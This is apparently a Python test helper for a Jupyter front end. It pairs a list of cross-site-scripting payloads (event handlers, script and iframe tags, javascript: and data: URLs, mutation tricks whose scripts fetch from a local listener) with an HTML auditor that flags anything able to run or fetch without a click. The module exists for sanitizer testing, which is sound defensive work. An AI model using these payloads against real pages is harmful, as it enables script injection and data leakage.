"""Hostile answers and an auditor of the HTML the front ends publish, shared by the tests.

``audit_html`` parses HTML the way a browser tokenizes it (``html.parser``) and lists
everything that could run code or fetch a URL without a click: tags outside the
allow-list, event handlers, ``srcdoc``, styles, and URLs with any scheme but the
allowed ones. The payloads are the ones measured in JupyterLab for issue 11.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from localmind_jupyter.safe_display import ALLOWED_TAGS, IMAGE_DATA


def payloads(port: int, title: str = "pwned") -> list[str]:
    """Answers that ran markup in JupyterLab before the fix; ``port`` is a listener's.

    Each script sets ``document.title``, counts itself in ``window.pwned`` (Lab resets
    the title on every kernel status change) and calls the listener.
    """
    leak = f"http://127.0.0.1:{port}"
    js = f"document.title='{title}';window.pwned=(window.pwned||0)+1;fetch('{leak}/js')"
    return [
        f'<img src=x onerror="{js}">',
        f"<script>{js}</script>",
        f'<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
        f'<details open ontoggle="{js}"><summary>s</summary>d</details>',
        f'<svg onload="{js}"><circle r=1 /></svg>',
        f"<style>@import url({leak}/css); body {{ background: url({leak}/bg) }}</style>",
        f'<link rel=stylesheet href="{leak}/link">',
        f'<form action="{leak}/form"><input name=q autofocus onfocus="{js}"></form>',
        f'<video src="{leak}/video" autoplay></video><audio src="{leak}/audio"></audio>',
        f'<object data="{leak}/object"></object><embed src="{leak}/embed">',
        f'<meta http-equiv=refresh content="0;url={leak}/meta">',
        f'<base href="{leak}/base/">',
        f'<p style="background:url({leak}/style)">styled</p>',
        f"![x]({leak}/leak?d=1)",
        f'<img src="{leak}/img">',
        f'<img srcset="{leak}/srcset 1x">',
        "[js](javascript:alert(1)) [JS](JaVaScRiPt:alert(1))",
        '<a href="javascript:alert(1)">a-js</a> <a href=" javascript:alert(1)">a-js2</a>',
        '<a href="vbscript:msgbox(1)">vb</a>',
        "[data](data:text/html,<script>alert(1)</script>)",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
        '<a href="/api/contents">relative</a> <img src="/files/x.png">',
        f'<a title="x" onmouseover="{js}">hover</a>',
        f"<b \"onmouseover='{js}'>quote</b>",
        f'[quote](http://x" onmouseover="{js})',
        f'<div class="jp-Dialog" id="x" data-x=1 onclick="{js}">cls</div>',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
        f'<noscript><p title="</noscript><img src=x onerror={js}>">',
        "$\\href{javascript:alert(1)}{click}$",
    ]


SAFE_MARKDOWN = """\
Some *emphasis*, **strong** and `inline code`.

- first
- second

1. one
2. two

| left | right |
|:-----|------:|
| a    | 1     |

```python
print("<b>not bold</b>")
```

Inline math $x^2 + y^2$ and display math:

$$
\\int_0^1 f(x)\\,dx
$$

A [web link](https://example.com/page) and <https://example.org>.
"""


def audit_html(markup: str, *, remote_images: bool = False) -> list[str]:
    """What in ``markup`` could run or fetch without a click (empty: nothing)."""
    auditor = _Auditor(remote_images)
    auditor.feed(markup)
    auditor.close()
    return auditor.problems


class _Auditor(HTMLParser):
    def __init__(self, remote_images: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.remote_images = remote_images
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if not self._harmless(tag, name, (value or "").strip()):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def _harmless(self, tag: str, name: str, value: str) -> bool:
        if name.startswith("on") or name in {"srcdoc", "srcset", "action", "formaction"}:
            return False
        if name == "style":
            return re.fullmatch(r"text-align:\s*\w+;?", value) is not None
        if name == "href":
            return re.match(r"(https?|mailto):", value, re.I) is not None
        if name == "src":
            remote = self.remote_images and re.match("https?://", value, re.I)
            return bool(IMAGE_DATA.match(value) or remote)
        if name in {"id", "name", "class"}:
            return tag == "code" and re.fullmatch(r"language-[\w+#.-]+", value) is not None
        return True

    handle_startendtag = handle_starttag
